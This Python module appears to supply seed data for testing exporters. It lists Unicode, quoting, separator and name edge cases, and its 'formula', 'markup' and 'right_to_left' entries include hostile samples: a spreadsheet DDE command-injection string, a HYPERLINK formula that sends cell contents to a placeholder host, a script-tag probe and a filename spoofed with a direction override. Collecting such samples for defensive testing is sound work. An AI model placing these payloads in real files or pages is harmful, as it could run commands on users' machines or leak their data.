"""The words, names and hostile samples that the seed's values are made of."""

from __future__ import annotations

# What breaks careless exporters, by kind. PostgreSQL takes no NUL, so no other control characters either.
HOSTILE: dict[str, tuple[str, ...]] = {
    "formula": (
        '=HYPERLINK("http://example.test/?q="&A1,"open")', "=1+1", "+49 30 123456", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=2+2", "-", "=", "=cmd|' /C calc'!A0",
    ),
    "lines": ("first line\nsecond line", "first line\r\nsecond line\r\n", "\n\n", "old\rmac", "a\u2028b\u2029c"),
    "tabs": ("a\tb\t\tc", "ends with tab\t"),
    "quotes": ('he said "no"', "it's 'fine'", '"""', '"', "''", '","', "“curly” „low“ «guillemets»", "`code`"),
    "separators": ("a,b;c|d", ";;;", ",,", 'x","y";"z', "a\\b\\N\\.", "\\"),
    "markup": ("<script>alert('x')</script> & <b>", "]]>", "{{ name }} ${HOME} %s {0}", "# title\n- item: value\n---"),
    "lookalikes": ("NULL", "None", "true", "no", "007", "1e5", "2024-02-30", "NaN", "1,234.50", "null"),
    "cjk": ("東京都の記者会見で発表された", "银行转账记录，第十二号；附件", "서울중앙지방법원 판결문", "𠮷野家と𩸽"),
    "right_to_left": (
        "قال المتحدث باسم ACME Ltd. إن التقرير (رقم 42) صحيح", "הדו״ח של Interpol מיום 3.4.2019 אושר",
        "שלום, world, مرحبا", "\u202eabc\u202c evil.exe", "\u200fעברית\u200e",
    ),
    "devanagari": ("न्यायालय ने दस्तावेज़ स्वीकार किया", "क्षेत्रीय कार्यालय, नई दिल्ली"),
    "emoji": ("👩‍👩‍👧‍👦 arrived 🏳️‍🌈", "👨🏽‍⚖️👍🏿 ok", "🇩🇪🇯🇵 ✈️", "☠️❗"),
    "combining": ("Cafe\u0301 Zu\u0308rich", "n\u0303o\u0302 Z\u0351\u036b\u0343a\u0334", "ﬁle Ⅷ ①"),
    "spaces": ("  leading", "trailing  ", " ", "\u00a0nbsp\u00a0", "\u3000全角\u3000", "zero\u200bwidth", "\ufeffBOM"),
    "empty": ("",),
}  # fmt: skip
SAMPLES = tuple(sample for samples in HOSTILE.values() for sample in samples)
GIVEN = (
    "Amina", "José", "Zoë", "Łukasz", "Björk", "Nguyễn", "محمد", "אברהם", "Ольга", "Δημήτρης", "美咲", "भारत", "Siobhán",
    "Dilnoza", "Kwame", "Ìfẹ́", "Jean-Luc", "Mary Ann", "李", "김민준", "O.", "van",
)  # fmt: skip
FAMILY = (
    "O'Neill", "Müller-Lüdenscheidt", "García y Vega", "Иванова", "الحسيني", "כהן", "田中", "शर्मा", "Okonkwo", "Smith",
    "Þórsdóttir", "Ltd.", "& Sons, Inc.", "d'Artagnan", "İstanbul", "Papadopoulos", "Nowak", "Holdings (BVI) S.A.",
)  # fmt: skip
WORDS = (
    "the", "a", "of", "on", "and", "to", "from", "by", "under", "according", "account", "transfer",
    "company", "director", "minister", "signed", "contract", "paid", "received", "million", "euros",
    "dollars", "invoice", "shipment", "vessel", "port", "offshore", "trust", "shareholder", "meeting",
    "recorded", "witness", "statement", "denied", "confirmed", "court", "ruling", "police", "report",
    "registry", "address", "phone", "email", "leaked", "memo", "draft", "final", "version", "March",
    "October", "quarter", "year", "before", "after", "during", "between", "never", "always",
    "allegedly", "reportedly", "several", "unnamed", "source", "bank", "branch", "loan", "collateral",
    "property", "village", "river", "border", "customs", "declaration", "licence", "tender", "award",
    "subsidiary", "auditor", "resigned", "appointed", "deputy", "chief", "engineer", "laboratory",
    "sample", "result", "inquiry",
)  # fmt: skip
